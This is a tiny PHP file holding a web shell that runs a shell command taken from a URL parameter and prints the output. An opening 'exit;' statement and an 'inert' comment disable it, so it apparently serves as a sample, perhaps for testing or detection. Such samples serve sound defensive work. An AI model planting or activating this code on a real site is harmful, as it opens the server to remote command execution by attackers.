<?php exit; /* inert */ 
$c = escapeshellcmd($_GET['command']);
echo "<pre>", htmlentities(shell_exec($c)), "</pre>";
